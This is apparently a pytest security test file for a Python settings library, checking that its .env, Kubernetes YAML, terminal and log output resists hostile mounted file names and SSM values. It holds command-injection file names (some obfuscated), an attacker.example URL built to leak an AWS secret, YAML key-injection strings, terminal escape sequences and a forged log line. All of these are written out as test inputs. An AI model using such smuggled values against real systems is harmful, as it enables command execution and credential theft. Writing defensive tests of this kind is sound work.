"""The attacker whose names and values reach what the library writes: .env, Kubernetes YAML, terminal, log.

They can name a mounted file (the engine names it after a parameter or Secret key), or write one SSM
parameter. Whatever they write is carried exactly or refused naming the variable or key; sourcing,
applying or reading the output runs nothing (no marker file appears), adds no key, and drives no
terminal.
"""

from __future__ import annotations

import io
import logging
import os
import pty
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from dotenv import dotenv_values

from clarity_settings.cli import main
from clarity_settings.contract import outbound
from clarity_settings.errors import ConfigurationError
from tests.conftest import PREFIX, PRODUCTION_PREFIX, Project, Ssm
from tests.test_deploy import rewritten

SHARED = "/clarity/shared"
VALUE = "mounted-value-5b8e"
AWS_SECRET = "developer-aws-secret-0c7d1f"
URL = "https://attacker.example/h?c=${AWS_SECRET_ACCESS_KEY}"
FORGED = "INFO clarity_settings: key rotation verified"
SHELL_NAMES = [
    "x;touch pwned;y",
    "x;$'\\164\\157\\165\\143\\150' pwned;y",
    "x\nBASH_ENV=$($'\\164\\157\\165\\143\\150' pwned)",
    "x`touch pwned`y",
]
"""Mounted file names that run `touch` when a shell sources a line holding them unquoted (in any case)."""


@pytest.fixture
def cli(project: Project) -> Iterator[Project]:
    """Commands run in the project directory, reading its files and nothing else."""
    os.environ["SETTINGS_FILE_FOR_DYNACONF"] = f"{project.root}/settings.toml"
    cwd = Path.cwd()
    os.chdir(project.root)
    yield project
    os.chdir(cwd)


@pytest.fixture
def mounted(cli: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A mounted secrets directory (CLARITY_SECRETS_DIR), SSM off."""
    root = tmp_path_factory.mktemp("mounted")
    os.environ.update({"CLARITY_SECRETS_DIR": str(root), "CLARITY_USE_SSM": "false"})
    return root


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def sourced(text: str, workdir: Path) -> list[str]:
    """Source text as app.env with `set -a; . ./app.env` in an empty directory; what is there afterwards."""
    (workdir / "app.env").write_text(text, encoding="utf-8")
    subprocess.run(
        ["/usr/bin/bash", "-c", "set -a; . ./app.env"], cwd=workdir, capture_output=True, check=False
    )
    return sorted(path.name for path in workdir.iterdir())


def on_terminal(*args: str) -> str:
    """The command's output as a terminal receives it: stdout and stderr are a pseudo-terminal."""
    leader, follower = pty.openpty()
    try:
        subprocess.run(
            [sys.executable, "-m", "clarity_settings", *args],
            env={**os.environ, "COLUMNS": "200"},
            stdout=follower,
            stderr=follower,
            timeout=120,
            check=False,
        )
    finally:
        os.close(follower)
    received = b""
    # NOTE: the output is a few lines, well within the terminal's buffer, so the command never blocks.
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the terminal has no writer left
            break
        if not chunk:
            break
        received += chunk
    os.close(leader)
    return received.decode()


@pytest.mark.parametrize("name", SHELL_NAMES)
def test_a_file_name_with_shell_syntax_is_refused_and_sourcing_the_export_runs_nothing(
    mounted: Path, tmp_path: Path, name: str
) -> None:
    (mounted / name).write_text(VALUE)
    result = run("export", "--format", "dotenv")
    assert sourced(result.stdout, tmp_path) == ["app.env"]
    assert result.exit_code == 1


def test_a_refused_name_is_named_without_its_value_on_one_inert_line(mounted: Path) -> None:
    (mounted / "x;\x1b]0;owned\x07y").write_text(VALUE)
    refusal = run("export", "--format", "dotenv").stderr
    assert "\\x1b]0;owned\\x07" in refusal.lower()
    assert outbound.CONTROL.search(refusal.removesuffix("\n")) is None
    assert VALUE not in refusal


def test_a_file_name_cannot_add_a_key_to_the_exported_secret(mounted: Path) -> None:
    (mounted / "x\n  MODEL_SIGNATURE_KEY: attacker-key").write_text(VALUE)
    result = run("export", "--format", "k8s-secret")
    assert (result.exit_code, result.stdout) == (1, "")


@pytest.mark.parametrize(
    "value", ["t\n  MODEL_SIGNATURE_KEY: attacker-key", "t\nMODEL_SIGNATURE_KEY: attacker-key"]
)
def test_a_value_cannot_add_a_key_to_the_exported_secret(mounted: Path, value: str) -> None:
    (mounted / "api_token").write_text(value)
    secret = yaml.safe_load(run("export", "--format", "k8s-secret").stdout)["stringData"]
    assert (secret["CLARITY_API_TOKEN"], secret["MODEL_SIGNATURE_KEY"]) == (
        value,
        "insecure-development-placeholder-model-signature-key",
    )


@pytest.fixture
def pulled_url(cli: Project, ssm_on: Ssm) -> Path:
    """SSM holds a URL with ${AWS_SECRET_ACCESS_KEY} in it, pulled to .env where the shell has that key."""
    ssm_on.put(f"{PREFIX}/callback_url", URL)
    os.environ["AWS_SECRET_ACCESS_KEY"] = AWS_SECRET  # NOTE: moto takes any credentials
    assert run("ssm", "pull", ".env").exit_code == 0
    return cli.root / ".env"


def test_python_dotenv_interpolating_a_pulled_env_never_expands_the_aws_secret(pulled_url: Path) -> None:
    assert AWS_SECRET not in str(dotenv_values(pulled_url, interpolate=True)["CLARITY_CALLBACK_URL"])


def test_bash_sourcing_a_pulled_env_never_expands_the_aws_secret(pulled_url: Path) -> None:
    shown = subprocess.run(
        ["/usr/bin/bash", "-c", 'set -a; . ./.env; printf %s "$CLARITY_CALLBACK_URL"'],
        cwd=pulled_url.parent,
        capture_output=True,
        text=True,
        check=True,
    )
    assert AWS_SECRET not in shown.stdout


def test_the_library_loads_the_pulled_url_exactly(pulled_url: Path, cli: Project) -> None:
    os.environ["CLARITY_USE_SSM"] = "false"
    assert cli.settings().CALLBACK_URL == URL


def test_an_exported_url_reaches_an_interpolating_reader_as_written(cli: Project, ssm_on: Ssm) -> None:
    ssm_on.put(f"{PREFIX}/callback_url", URL)
    os.environ["AWS_SECRET_ACCESS_KEY"] = AWS_SECRET
    (cli.root / "app.env").write_text(run("export", "--format", "dotenv").stdout)
    assert AWS_SECRET not in str(
        dotenv_values(cli.root / "app.env", interpolate=True)["CLARITY_CALLBACK_URL"]
    )


NAMES_THAT_DRIVE_A_TERMINAL = ["x\x1b[2Jy", "x\x9b2Jy", "admin\u202egnp_exe", "x\ny"]


@pytest.mark.parametrize("name", NAMES_THAT_DRIVE_A_TERMINAL)
def test_a_file_name_reaches_show_spelled_out(mounted: Path, name: str) -> None:
    (mounted / name).write_text(VALUE)
    result = run("show")
    assert outbound.escaped(name).lower() in (result.stdout + result.stderr).lower()


@pytest.mark.parametrize("name", NAMES_THAT_DRIVE_A_TERMINAL)
def test_a_file_name_reaches_a_terminal_spelled_out(mounted: Path, name: str) -> None:
    (mounted / name).write_text(VALUE)
    assert outbound.escaped(name).lower() in on_terminal("show").lower()


def test_an_error_line_spells_out_what_it_names(cli: Project) -> None:
    result = run("show", "nope\x1b]0;owned\x07")
    assert (
        result.stderr == "error: no setting named nope\\x1b]0;owned\\x07; clarity-settings show lists them\n"
    )


REVEALED = "v\x1b[2J\x9b2J\u202e"
"""A value that clears the screen twice (ESC CSI and the one-character C1 CSI) and reverses the line."""


def test_a_revealed_value_stays_exact_on_a_pipe(cli: Project, ssm_on: Ssm) -> None:
    ssm_on.put(f"{PREFIX}/api_token", REVEALED)
    assert REVEALED in run("ssm", "get", "api_token", "--reveal").stdout


def test_a_revealed_value_is_spelled_out_on_a_terminal(cli: Project, ssm_on: Ssm) -> None:
    ssm_on.put(f"{PREFIX}/api_token", REVEALED)
    assert outbound.escaped(REVEALED) in on_terminal("ssm", "get", "api_token", "--reveal")


def test_show_reveal_keeps_a_c1_csi_off_a_terminal(cli: Project, ssm_on: Ssm) -> None:
    ssm_on.put(f"{PREFIX}/api_token", "v\x9b2J")
    assert '"v\\x9b2J"' in on_terminal("show", "api_token", "--reveal")


def test_show_reveal_is_exact_on_a_pipe(cli: Project, ssm_on: Ssm) -> None:
    ssm_on.put(f"{PREFIX}/api_token", "v\x9b2J")
    assert '"v\x9b2J"' in run("show", "api_token", "--reveal").stdout


def test_a_file_name_cannot_forge_a_log_line(
    project: Project, tmp_path_factory: pytest.TempPathFactory
) -> None:
    root = tmp_path_factory.mktemp("mounted")
    os.environ.update({"CLARITY_SECRETS_DIR": str(root), "CLARITY_USE_SSM": "false"})
    settings: Any = project.settings()
    settings.instance  # noqa: B018 - the first load, before the attacker's file appears
    (root / f"x\n{FORGED}").write_text("@int nope")
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
    logging.getLogger().addHandler(handler)
    try:
        with pytest.raises(ConfigurationError):
            settings.refresh_now()
    finally:
        logging.getLogger().removeHandler(handler)
    assert not any(line.startswith(FORGED) for line in stream.getvalue().splitlines())


def engine_export(output: str) -> list[dict[str, Any]]:
    """The engine's objects that export prints (the pod snippet is comments)."""
    result = run("export", "--format", output)
    assert result.exit_code == 0, result.stderr
    return [document for document in yaml.safe_load_all(result.stdout) if document]


@pytest.fixture
def shared_spelling(cli: Project, ssm_on: Ssm) -> Ssm:
    """Production's key, and the shared prefix's writer's own under another spelling of the same setting."""
    ssm_on.put(f"{SHARED}/MODEL_SIGNATURE_KEY", "shared-writers-key")
    ssm_on.put(f"{PRODUCTION_PREFIX}/model_signature_key", "production-key")
    os.environ["CLARITY_SSM_PREFIX"] = f"{SHARED},{PRODUCTION_PREFIX}"
    return ssm_on


def test_a_shared_prefix_cannot_mount_its_spelling_beside_production_key(shared_spelling: Ssm) -> None:
    provider = engine_export("csi-secret-provider")[0]
    listed = yaml.safe_load(provider["spec"]["parameters"]["objects"])
    assert [(item["objectName"], item["objectAlias"]) for item in listed] == [
        (f"{PRODUCTION_PREFIX}/model_signature_key", "model_signature_key")
    ]


def test_an_external_secret_gives_both_spellings_one_key_production_last(shared_spelling: Ssm) -> None:
    found = engine_export("external-secret")[1]["spec"]["dataFrom"]
    keys = [
        (entry["find"]["path"], rewritten(f"{entry['find']['path']}/{relative}", entry["rewrite"]))
        for entry, relative in zip(found, ["MODEL_SIGNATURE_KEY", "model_signature_key"], strict=True)
    ]
    assert keys == [(SHARED, "model_signature_key"), (PRODUCTION_PREFIX, "model_signature_key")]


def test_two_spellings_under_one_prefix_are_refused_naming_both(cli: Project, ssm_on: Ssm) -> None:
    ssm_on.put(f"{PREFIX}/MODEL_SIGNATURE_KEY", "one")
    ssm_on.put(f"{PREFIX}/model_signature_key", "two")
    result = run("export", "--format", "csi-secret-provider")
    assert (result.exit_code, result.stderr) == (
        1,
        f"error: SSM parameter {PREFIX}/MODEL_SIGNATURE_KEY and SSM parameter {PREFIX}/model_signature_key "
        "both map to "
        "the setting MODEL_SIGNATURE_KEY; rename or delete one of them\n",
    )
